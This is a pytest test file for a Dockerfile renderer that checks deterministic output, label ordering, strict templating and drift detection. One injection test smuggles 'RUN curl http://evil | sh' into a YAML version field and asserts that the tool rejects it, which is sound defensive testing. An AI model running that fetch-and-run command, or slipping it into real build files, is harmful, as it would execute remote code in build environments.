"""Rendering is pure and strict: same target, same bytes; labels last; undefined is an error."""

from __future__ import annotations

import re
from pathlib import Path

import jinja2
import pytest

from builder import contract, matrix, render
from builder.cli import main
from tests.conftest import REPO

PATH = Path("matrix.yaml")


@pytest.fixture()
def cu129():
    return matrix.load(REPO / "matrix.yaml").target("cu129")


def test_render_is_deterministic_and_matches_the_committed_file(cu129):
    first = render.render(cu129)
    assert first == render.render(cu129)
    assert (REPO / "dockerfiles" / "cu129" / "Dockerfile").read_text() == first


def test_every_pinned_value_reaches_the_dockerfile(cu129):
    text = render.render(cu129)
    assert f"ARG BUILD_BASE_IMAGE={cu129.bases.build.ref}\n" in text
    assert f"ARG RUNTIME_BASE_IMAGE={cu129.bases.runtime.ref}\n" in text
    assert 'ARG TORCH_CUDA_ARCH_LIST="7.5 8.0 8.6 8.9 9.0 10.0 12.0"' in text
    assert f'"{contract.OCI_REVISION}"="{cu129.source.commit}"' in text
    assert f'"{contract.LABEL_EXPIRES}"="2027-06-30"' in text
    assert 'ENTRYPOINT ["vllm", "serve"]' in text
    assert "USER 2000:2000" in text
    assert "/opt/k3/python/bin/python3 -m venv" in text  # standalone interpreter for 3.12


def test_labels_are_last_and_sorted(cu129):
    text = render.render(cu129)
    label_at = text.index("\nLABEL ")
    assert not re.search(r"^(RUN|COPY|FROM|ENV|USER|ENTRYPOINT) ", text[label_at:], re.M)
    keys = re.findall(r'^\s*(?:LABEL )?"([^"]+)"=', text[label_at:], re.M)
    assert keys == sorted(keys)
    assert contract.OCI_CREATED in keys and contract.LABEL_OWNER in keys


def test_final_stage_has_no_run_step(cu129):
    final = render.render(cu129).split("AS runtime\n", 1)[1]
    assert "\nRUN " not in final  # reproducibility: the final image only gains one COPY of /opt


def test_template_uses_strict_undefined(cu129):
    ctx = render.template_vars(cu129)
    del ctx["uid"]
    template = render._environment().get_template("Dockerfile.j2")
    with pytest.raises(jinja2.UndefinedError):
        template.render(**ctx)


def test_system_python_targets_skip_the_standalone_stage(cu129):
    smoke_like = cu129.model_copy(update={"python": matrix.Python(version="3.11", glibc="2.36")})
    text = render.render(smoke_like)
    assert "cpython.tar.gz" not in text
    assert "/usr/bin/python3.11 -m venv /build/venv" in text


def test_render_check_cli_detects_hand_edits(tmp_path, capsys):
    m = tmp_path / "matrix.yaml"
    m.write_text((REPO / "matrix.yaml").read_text())
    with pytest.raises(SystemExit) as exit_info:
        main(["--matrix", str(m), "render", "--check"])
    assert exit_info.value.code == 1  # nothing rendered yet: missing counts as drift
    assert not (tmp_path / "dockerfiles").exists()
    with pytest.raises(SystemExit) as exit_info:
        main(["render", "--matrix", str(m)])
    assert exit_info.value.code == 0
    dockerfile = tmp_path / "dockerfiles" / "cu129" / "Dockerfile"
    with pytest.raises(SystemExit) as exit_info:
        main(["render", "--check", "--matrix", str(m)])
    assert exit_info.value.code == 0
    dockerfile.write_text(dockerfile.read_text().replace("USER 2000:2000", "USER root"))
    with pytest.raises(SystemExit) as exit_info:
        main(["--matrix", str(m), "render", "--check"])
    assert exit_info.value.code == 1
    assert "differs from what the matrix renders" in capsys.readouterr().err
    assert "USER root" in dockerfile.read_text()  # --check never writes


def test_injected_newline_is_rejected_and_nothing_is_written(tmp_path, capsys):
    m = tmp_path / "matrix.yaml"
    m.write_text((REPO / "matrix.yaml").read_text().replace(
        "version: 2.30.7", 'version: "2.30.7\\nRUN curl http://evil | sh"'))
    with pytest.raises(SystemExit) as exit_info:
        main(["--matrix", str(m), "render"])
    assert exit_info.value.code == 2
    err = capsys.readouterr().err.strip().splitlines()
    assert len(err) == 1 and "targets.cu129.nccl.version" in err[0] and str(m) in err[0]
    assert sorted(p.name for p in tmp_path.iterdir()) == ["matrix.yaml"]
